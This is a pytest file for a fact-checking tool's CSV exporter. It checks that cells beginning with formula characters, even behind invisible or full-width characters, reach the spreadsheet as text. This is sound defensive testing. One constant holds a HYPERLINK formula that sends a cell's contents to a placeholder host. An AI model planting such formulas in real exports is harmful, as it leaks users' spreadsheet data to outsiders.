"""CSV: what a spreadsheet opens without running anything."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from claimtrack.exporters import CsvExporter
from claimtrack.exporters.table import safe_cell
from claimtrack.models import Check
from claimtrack.report import RunReport
from claimtrack.textsafe import printable

FORMULA = '=HYPERLINK("http://page.example?x="&A1)'


def _rows(*checks: Check) -> list[dict[str, str]]:
    out = io.StringIO(newline="")
    exporter = CsvExporter(out)
    for check in checks:
        exporter.add(check)
    assert out.getvalue().endswith("\r\n")
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


def test_a_row_per_check(report: RunReport) -> None:
    rows = _rows(*report.checks)
    assert [row["claim_id"] for row in rows] == ["news/bare", "news/gone", "news/ferry", "news/ferry"]
    assert rows[2] == {
        "claim_id": "news/ferry",
        "claim": "The ferry carried 212 passengers.",
        "verdict": "contradicted",
        "score": "0.02",
        "problem": "",
        "problem_detail": "",
        "why": "the claim says 212, the page says 213",
        "passage": "It carried 213 passengers.",
        "link": "https://page.example/#:~:text=212",
        "source": "https://b.example/",
        "publisher": "The Skerry Post",
        "changed": "True",
        "where": "claims/news.toml:4",
        "checked_at": "2026-11-24T14:51:30Z",
    }
    assert (rows[1]["verdict"], rows[1]["score"], rows[1]["problem"], rows[1]["link"]) == (
        "",
        "",
        "http-404",
        "",
    )


@pytest.mark.parametrize(
    "lead", ["", " ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u202e", "\u2060 \u200d", "\u034f", "\u0301"]
)
@pytest.mark.parametrize("first", list("=+-@\t\r\n＝＋－＠"))
def test_a_formula_is_text_also_behind_what_nobody_sees(lead: str, first: str) -> None:
    cell = safe_cell(f"{lead}{first}1+1")
    assert cell.startswith("'")
    assert cell[1:] == printable(f"{lead}{first}1+1")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        ("", ""),
        ("  ", "  "),
        (0.5, "0.5"),
        (True, "True"),
        ("a = b", "a = b"),
        ("'tis so", "'tis so"),
        ("“=1” she wrote", "“=1” she wrote"),
        ("-5 degrees", "'-5 degrees"),
        ("https://page.example/?a=1", "https://page.example/?a=1"),
    ],
)
def test_everything_else_stays(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


@given(st.text(max_size=12))
@example("\u200b=1")
def test_no_cell_starts_a_formula_and_the_text_comes_back(text: str) -> None:
    cell = safe_cell(text)
    assert cell.strip()[:1] not in set("=+-@＝＋－＠")
    assert cell[:1] not in set("\t\r\n")
    assert printable(text) in {cell, cell[1:]}


def test_hostile_text_stays_in_its_cells(hostile: Check, hostile_problem: Check, problem: Check) -> None:
    rows = _rows(hostile, hostile_problem, problem)
    assert len(rows) == 3
    assert all(None not in row and None not in row.values() for row in rows)
    for row in rows:
        for value in row.values():
            assert all(ch.isprintable() or ch in "\n\t" for ch in value)
            assert value[:1] not in set("=+-@\t\r\n")
    assert rows[2]["claim_id"] == "news/gone"


def test_a_formula_in_a_passage_reaches_the_sheet_as_text(supported: Check) -> None:
    from dataclasses import replace

    assert supported.verdict
    evidence = replace(supported.verdict.evidence[0], exact=f"\ufeff{FORMULA}")
    (row,) = _rows(replace(supported, verdict=replace(supported.verdict, evidence=(evidence,))))
    assert row["passage"] == f"'\\ufeff{FORMULA}"
